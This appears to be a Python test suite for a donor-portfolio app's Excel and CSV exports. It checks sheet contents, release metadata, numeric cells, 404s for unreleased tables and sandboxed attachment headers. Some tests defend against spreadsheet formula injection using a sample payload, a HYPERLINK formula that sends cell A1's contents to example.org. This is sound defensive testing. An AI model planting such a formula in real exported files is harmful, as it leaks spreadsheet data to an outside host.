"""The released tables as Excel and CSV: numbers as numbers, and no text that is a formula."""

import csv
import io

import openpyxl
import pytest

from donors.files import harmless
from tests.donors.documents import a_gap, figures, hidden
from tests.donors.portfolio_kit import Portfolio

DANGEROUS = '=HYPERLINK("http://example.org/?"&A1,"open")'


@pytest.fixture
def portfolio(app):
    return Portfolio(app)


def book_of(portfolio, release):
    reply = portfolio.get(f"/portfolio/releases/{release.id}.xlsx")
    assert reply.status_code == 200
    assert reply.headers["Content-Disposition"].startswith("attachment; filename=octant-XAA")
    return openpyxl.load_workbook(io.BytesIO(reply.data))


def csv_lines(portfolio, release, table):
    reply = portfolio.get(f"/portfolio/releases/{release.id}/{table}.csv")
    assert (reply.status_code, reply.mimetype) == (200, "text/csv")
    return list(csv.reader(io.StringIO(reply.data.decode("utf-8-sig"))))


def lines_below(lines, first):
    """The lines of a table as dictionaries, by the head that begins with `first`."""
    place = next(number for number, line in enumerate(lines) if line and line[0] == first)
    return [dict(zip(lines[place], line, strict=True)) for line in lines[place + 1 :]]


def sheet_lines(sheet, first):
    return lines_below([[cell.value for cell in row] for row in sheet.iter_rows()], first)


@pytest.mark.parametrize(
    ("scope", "sheets"),
    [
        ("areas", ["About", "Practice areas"]),
        ("gaps", ["About", "Practice areas", "Elements", "Gaps"]),
        ("roadmap", ["About", "Practice areas", "Elements", "Gaps", "Roadmap"]),
    ],
)
def test_the_workbook_has_a_sheet_for_each_released_table(portfolio, scope, sheets):
    assert book_of(portfolio, portfolio.release(scope=scope)).sheetnames == sheets


def test_every_sheet_states_release_date_marking_and_method(portfolio):
    book = book_of(portfolio, portfolio.release(marking="Restricted"))
    for sheet in book:
        text = "\n".join(str(cell.value) for row in sheet.iter_rows() for cell in row)
        for said in ("Restricted", "2026-11-20", "Method", "0f1e2d3c", "roadmap"):
            assert said in text, (sheet.title, said)


@pytest.mark.parametrize("table", ["areas", "elements", "gaps", "roadmap"])
def test_every_csv_states_release_date_marking_and_method(portfolio, table):
    release = portfolio.release(marking="Restricted")
    lines = csv_lines(portfolio, release, table)
    facts = {line[0]: line[1] for line in lines[: lines.index([])]}
    assert (facts["Release"], facts["Released to"]) == (release.id, "The River Fund")
    assert facts["Marking"] == "Restricted · Demonstration state"
    assert facts["Signed off"] == "2026-11-20"
    assert facts["Open until"] == "2027-02-20"
    assert facts["Method"] == "1"
    assert facts["Released"] == "scores, gaps and the full roadmap"


def test_figures_are_numbers_in_the_workbook(portfolio):
    area = portfolio.catalogue.areas[0]
    book = book_of(portfolio, portfolio.release(areas={area.id: figures(0.62)}))
    line = sheet_lines(book["Practice areas"], "Practice area")[0]
    assert (line["Score"], line["Lowest possible"], line["Highest possible"]) == (62, 52, 72)
    assert (line["Level"], line["Target level"]) == (2, 3)


@pytest.mark.parametrize("kind", ["incomplete", "withheld"])
def test_a_part_without_a_score_has_its_range_alone(portfolio, kind):
    area = portfolio.catalogue.areas[0]
    release = portfolio.release(areas={area.id: hidden(kind, 0.2, 0.75)})
    line = lines_below(csv_lines(portfolio, release, "areas"), "Practice area")[0]
    words = {"incomplete": "not complete enough", "withheld": "withheld"}[kind]
    assert (line["How it is shown"], line["Score"], line["Level"]) == (words, "", "")
    assert (line["Lowest possible"], line["Highest possible"]) == ("20.0", "75.0")


def test_the_gaps_are_a_line_for_each_question_and_family(portfolio):
    question = portfolio.catalogue.questions[0]
    gaps = [a_gap(question, family, leverage=2.5) for family in question.families]
    lines = lines_below(csv_lines(portfolio, portfolio.release(gaps=gaps), "gaps"), "Practice area")
    assert len(lines) == len(question.families)
    assert {line["Leverage"] for line in lines} == {"2.5"}


def test_the_roadmap_lists_what_is_planned_and_what_does_not_fit(portfolio):
    lines = lines_below(csv_lines(portfolio, portfolio.release(), "roadmap"), "In the plan")
    assert {line["In the plan"] for line in lines} == {"yes", "no"}
    assert lines[0]["First quarter"] == "Q1 2027"
    assert float(lines[0]["Cost, US dollars"]) == 12_000


@pytest.mark.parametrize("field", ["title", "marking"])
def test_a_text_that_looks_like_a_formula_stays_a_text(portfolio, field):
    release = portfolio.release(**{field: DANGEROUS})
    for sheet in book_of(portfolio, release):
        assert [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    for line in csv_lines(portfolio, release, "areas"):
        assert [value for value in line if value.startswith("=")] == []


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_no_text_of_a_csv_begins_like_a_formula(first):
    assert harmless(f"{first}1") == f"'{first}1"


@pytest.mark.parametrize("value", [0, -3, 4.5, "plain", "a=b"])
def test_numbers_and_plain_texts_stay_as_they_are(value):
    assert harmless(value) == value


@pytest.mark.parametrize(
    ("scope", "table"),
    [("areas", "elements"), ("areas", "gaps"), ("gaps", "roadmap"), ("roadmap", "answers")],
)
def test_a_table_that_was_not_released_is_not_found(portfolio, scope, table):
    release = portfolio.release(scope=scope)
    assert portfolio.get(f"/portfolio/releases/{release.id}/{table}.csv").status_code == 404


def test_a_file_is_an_attachment_in_which_nothing_can_run(portfolio):
    reply = portfolio.get(f"/portfolio/releases/{portfolio.release().id}/areas.csv")
    assert reply.headers["Content-Disposition"].startswith("attachment")
    assert reply.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_every_sheet_names_the_donor_and_the_release(portfolio):
    release = portfolio.release()
    for sheet in book_of(portfolio, release):
        facts = {row[0]: row[1] for row in sheet.iter_rows(values_only=True)}
        assert (facts["Released to"], facts["Release"]) == ("The River Fund", release.id), (
            sheet.title
        )


def test_what_a_donor_reads_calls_a_level_a_level(portfolio):
    release = portfolio.release()
    page = portfolio.get(f"/portfolio/releases/{release.id}").text
    assert ">Level</th>" in page
    assert ">Band</th>" not in page
